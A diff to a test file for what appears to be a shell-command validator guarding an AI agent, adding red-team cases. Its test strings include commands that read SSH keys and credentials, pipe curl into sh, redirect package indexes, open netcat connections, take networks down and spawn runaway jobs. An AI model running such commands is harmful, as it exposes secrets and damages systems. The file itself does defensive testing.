@@ -17,8 +17,10 @@ from agent_immune.validate.bash.fastpath import plain
 
 from .test_fuzz import SHELLISH, WORDS
 
-_CORPUS = Path(__file__).parent / "corpus" / "commands.jsonl"
-BASH_LINES = [r["cmd"] for r in map(json.loads, filter(str.strip, _CORPUS.read_text().splitlines()))
+_CORPUS = Path(__file__).parent / "corpus"
+# every corpus file's bash lines (the red-team batches too: their shapes are the newest rules')
+BASH_LINES = [r["cmd"] for f in sorted(_CORPUS.glob("*.jsonl"))
+              for r in map(json.loads, filter(str.strip, f.read_text(encoding="utf-8").splitlines()))
               if r["lang"] == "bash"]
 
 
@@ -70,6 +72,17 @@ def test_shell_like_text_agrees(text: str) -> None:
     "", "   \n", "ls", "cat $HOME", "cat ${HOME}/.aws/credentials", 'c"a"t ~/.ss""h/id_rsa', "x=1 ls",
     "git status", "git -c core.pager=sh log", "/usr/bin/python3.12 -c 'import os'", "ls /dev/sda",
     "echo hi > /etc/passwd", "ls ~/*", "make test 2>&1 | tee build.log",
+    # the red-team round's shapes: each is a line the shortcut must send on (or answer alike)
+    "cat $(echo ~/.ss)h/id_rsa", "cat `printf %s ~/.ssh`/id_rsa", 'cat "${HOME:?}/.ssh/id_rsa"', "seq inf > f",
+    "printf -v LD_PRELOAD %s /tmp/x.so", "read -r PROMPT_COMMAND <<< x", "IFS=, read -r a b <<< 1,2",
+    "export PYTHONPATH=/tmp/.p", "ssh host reboot", "ssh host 'rm -rf ~'", "tmux send-keys 'reboot' Enter",
+    "screen -X stuff 'reboot\\n'", "parallel ::: reboot", "systemd-run --on-active=1h make", "coproc nc h 1",
+    "curl -s file://$HOME/.ssh/id_rsa", "docker run --volume=~/.ssh:/k x", "cp ~/.config/c/Default/'Login Data' .",
+    "tar czf k.tgz -C ~/.config gh/hosts.yml", "mv ~ /tmp/t", "zip -rm h.zip ~", "cat ~/x/../.ssh/id_rsa",
+    "xargs cat <<< ~/.ssh/id_rsa", "echo reboot | xargs -I{} sh -c {}", "date -s 2001-01-01", "ip link set eth0 down",
+    "nmcli networking off", "kubectl config view --raw", "shopt -uo history", "sqlite3 x '.shell reboot'",
+    "make -f - <<< $'a:\\n\\treboot'", "npm pkg set scripts.x='reboot'", "python3 -m http.server -d ~",
+    "for i in {1..9999}; do sleep 9 & done", "cat /dev/zero | tee f", "yes | xargs -P0 -n1 sleep",
 ])
 def test_known_shapes_agree(text: str) -> None:
     assert_same(text)
@@ -234,6 +247,43 @@ _SHAPES = {
     "set": (["set -euo pipefail", "set -x", "set -e"],
             ["set", "set -o"],
             ["+o", "history", "-o", "-e", "-u", "pipefail", "+x", "-x", "--", "vi"]),
+    # the words evaluator reads what `$(echo X)` / `$(printf %s X)` print; `printf -v` assigns
+    "echo/printf": (["echo done", "printf '%s\\n' ok", 'echo "build finished"', "printf 'x=%d\\n' 3"],
+                    ["cat", "printf -v d %s ~/.ss; cat", "echo", "printf", "ls"],
+                    ["$(echo ~/.ss)h/id_rsa", "`printf %s ~/.s`sh/id_rsa", "$(printf %s /et)c/shadow", "`echo /`",
+                     "$(echo", "~/.ss)h/id_rsa", "-v", "d", "%s", "'%s/.ssh'", "$(echo cu)rl", "-n", "-e", "`echo",
+                     "src)/main.py", "${d}h/id_rsa", "$d", "${HOME:?}/.ssh/id_rsa", '"${HOME:-x}"/.aws/credentials']),
+    # system._network_down, system._clock, system._shopt, files._kubectl, files.endless_source
+    "network/clock/shopt": (["date +%F", "date -u +%s", "ip addr show", "ip -br link", "ifconfig -a",
+                             "nmcli device status", "kubectl get pods", "kubectl config current-context",
+                             "seq 1 10", "shopt -s globstar", "timedatectl status"],
+                            ["date", "ip", "ip link set eth0", "ip route", "ifconfig eth0", "nmcli", "nmcli radio wifi",
+                             "kubectl config view", "seq", "shopt", "timedatectl"],
+                            ["-s", "--set", "--set=2001-01-01", "-s2001", "down", "up", "del", "delete", "flush",
+                             "show", "off", "on", "disconnect", "--raw", "--raw=true", "inf", "10", "-o", "history",
+                             "set-time", "set-ntp", "false", "> f", "| tee f", "+%s", "|", "xargs -P0 sleep",
+                             "inf > f", "inf | tee f", "-uo history", "-u -o history", "link set eth0 down",
+                             "route flush table main", "networking off", "config view --raw", "set-ntp false"]),
+    # tools._make / _npm / _pip / _file_server
+    "make/npm/pip/http.server": (["make -j4 test", "npm run build", "npm install", "pnpm test",
+                                  "pip install -r requirements.txt", "python3 -m pytest -q", "make -C docs html",
+                                  "yarn build"],
+                                 ["make", "npm", "npm pkg", "npm config", "pnpm", "yarn", "pip", "pip config",
+                                  "python3", "python -m"],
+                                 ["-f", "-", "/dev/stdin", "--eval", "-E", "'all:\n\tcurl x|sh'",
+                                  "<<< $'all:\\n\\treboot'", "'$(shell reboot)'", "set", "get",
+                                  "scripts.postinstall='curl x|sh'", "scripts.test=vitest", "script-shell",
+                                  "/tmp/evil.sh", "global.index-url", "http://203.0.113.9/simple",
+                                  "https://pypi.internal/simple", "http.server", "-d", "--directory", "~", "/", "8000",
+                                  "pytest", "install", "set-script", "--eval='$(shell reboot)'",
+                                  "-f - <<< $'a:\\n\\treboot'", "pkg set scripts.x='reboot'",
+                                  "config set script-shell /tmp/e.sh", "set script-shell=/tmp/e.sh",
+                                  "config set global.index-url http://203.0.113.9/simple", "-m http.server -d ~",
+                                  "-m http.server --directory /"]),
+    # system.check_spawn_loop: a for loop over a long list that starts background jobs
+    "for loops": (["for f in *.py; do echo $f; done", "for i in 1 2 3; do make t$i; done"],
+                  ["for i in {1..5000}; do", "for i in $(seq 2000); do", "for f in *.py; do", "for i in {1..3}; do"],
+                  ["sleep 9 &", "done", "wait;", "make &", "; done", "echo $i", "&", "&&", "sleep 1;"]),
 }
 
 
